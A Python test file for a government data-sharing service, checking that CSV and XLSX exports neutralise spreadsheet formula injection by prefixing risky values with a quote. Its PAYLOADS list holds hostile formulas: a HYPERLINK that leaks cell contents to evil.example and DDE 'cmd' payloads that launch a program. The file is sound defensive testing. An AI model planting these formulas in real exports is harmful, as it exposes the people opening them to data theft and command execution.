"""CSV formula injection (issue #12, finding 11): values starting with `= + - @`, tab or CR came out live in
the open-data CSV, the data-API CSV export and the quarantine CSV. One function (`core.csvsafe`) now
prefixes them with `'` (OWASP); plain numbers, numeric columns and decimals stay numbers. XLSX outputs write
such values as text cells, never formulas. On SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from govshare.core.csvsafe import neutralize, neutralize_frame
from govshare.core.db import Database
from tests import factories
from tests.collection.helpers import ingest, person_id
from tests.collection.test_api import source  # noqa: F401 - the pushed-source fixture
from tests.opendata import helpers as opendata
from tests.sharing.helpers import (
    MAPPING,
    PEOPLE_ROWS,
    PURPOSE,
    approved_grant,
    resource_code,
    setup,
    write_people,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1;"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _live(cells: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate as a formula."""
    return [
        cell
        for row in cells
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and neutralize(cell) != cell
    ]


def test_neutralize_prefixes_formulas_and_keeps_numbers() -> None:
    for payload in PAYLOADS:
        assert neutralize(payload) == "'" + payload
    for harmless in ("-5", "+86", "-1.25", "-1.25e3", ".5", "普通文本", "a=b", "", "'=已转义"):
        assert neutralize(harmless) == harmless
    frame = pl.DataFrame(
        {"text": [*PAYLOADS, "-5", None], "n": [-5] * 6 + [1, 2], "x": [-1.5] * 8},
        schema={"text": pl.String, "n": pl.Int64, "x": pl.Float64},
    )
    safe = neutralize_frame(frame)
    assert safe["text"].to_list() == ["'" + p for p in PAYLOADS] + ["-5", None]
    assert safe["n"].to_list() == frame["n"].to_list() and safe.schema == frame.schema
    assert "-5," in safe.select("n", "text").write_csv()  # a numeric column's -5 is written as a number


def test_the_open_data_csv_download_has_no_live_formula(
    client: TestClient, db: Database, tmp_path: Path
) -> None:
    codes = opendata.setup(db, tmp_path)  # one organisation is named "=1+1"
    url = f"/api/open/v1/datasets/{codes['open']}/download"
    response = client.get(url, params={"format": "csv"})
    assert response.status_code == 200, response.text
    cells = _cells(response.content)
    assert _live(cells) == []
    assert "'=1+1" in {row[1] for row in cells}
    assert {row[3] for row in cells[1:]} >= {"10", "3.5"}  # 注册资金 (decimal) stays a number
    workbook = client.get(url, params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    assert sheet is not None
    kinds = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert kinds["=1+1"] == "s"  # a text cell, not a formula


def test_the_data_api_csv_export_has_no_live_formula(
    client: TestClient, db: Database, tmp_path: Path
) -> None:
    keys = setup(db, tmp_path)
    code = resource_code(db)
    approved_grant(client, code)
    hostile = [(*row[:4], payload, *row[5:]) for row, payload in zip(PEOPLE_ROWS, PAYLOADS[1:4], strict=True)]
    ingest(db, write_people(tmp_path / "hostile.csv", hostile), MAPPING)
    headers = {**factories.bearer(keys["mz"]), **PURPOSE}
    response = client.get(f"/api/v1/data/{code}/export", params={"format": "csv"}, headers=headers)
    assert response.status_code == 200, response.text
    cells = _cells(response.content)
    assert _live(cells) == []
    # 居住地址 is masked, keeping its first characters: a masked value can still start a formula
    addresses = {row[cells[0].index("jzdz")] for row in cells[1:]}
    assert len(addresses) == 3 and {a[:2] for a in addresses} == {"'+", "'-", "'@"}, addresses
    assert {row[cells[0].index("qx")] for row in cells[1:]} == {"110105", "110106"}


def test_the_quarantine_csv_has_no_live_formula(
    client: TestClient,
    db: Database,
    source: int,  # noqa: F811 - the fixture imported above
) -> None:
    headers = factories.login(client, "ga.steward")
    bad = [
        {"身份证号": "123", "姓名": payload, "性别": "0", "更新时间": "2024-01-01 00:00:00"}
        for payload in PAYLOADS
    ]
    good = {
        "身份证号": person_id("19900307", 123),
        "姓名": "-",
        "性别": "0",
        "更新时间": "2024-01-01 00:00:00",
    }
    pushed = client.post(
        f"/api/v1/collection/sources/{source}/records", json={"records": [*bad, good]}, headers=headers
    )
    assert pushed.status_code == 202, pushed.text
    url = f"/api/v1/collection/batches/{pushed.json()['id']}/quarantine"
    download = client.get(url, params={"format": "csv"})
    assert download.status_code == 200, download.text
    cells = _cells(download.content)
    assert _live(cells) == []
    names = {row[cells[0].index("姓名")] for row in cells[1:]}
    assert names == {"'" + p for p in PAYLOADS}
    assert {row[0] for row in cells[1:]} == {str(n) for n in range(1, len(PAYLOADS) + 1)}  # row numbers
    workbook = client.get(url, params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    assert sheet is not None
    assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row if cell.value)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_neutralised_as_text(payload: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([neutralize(payload)])
    (cell,) = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert cell.startswith("'") and cell[1:] == payload
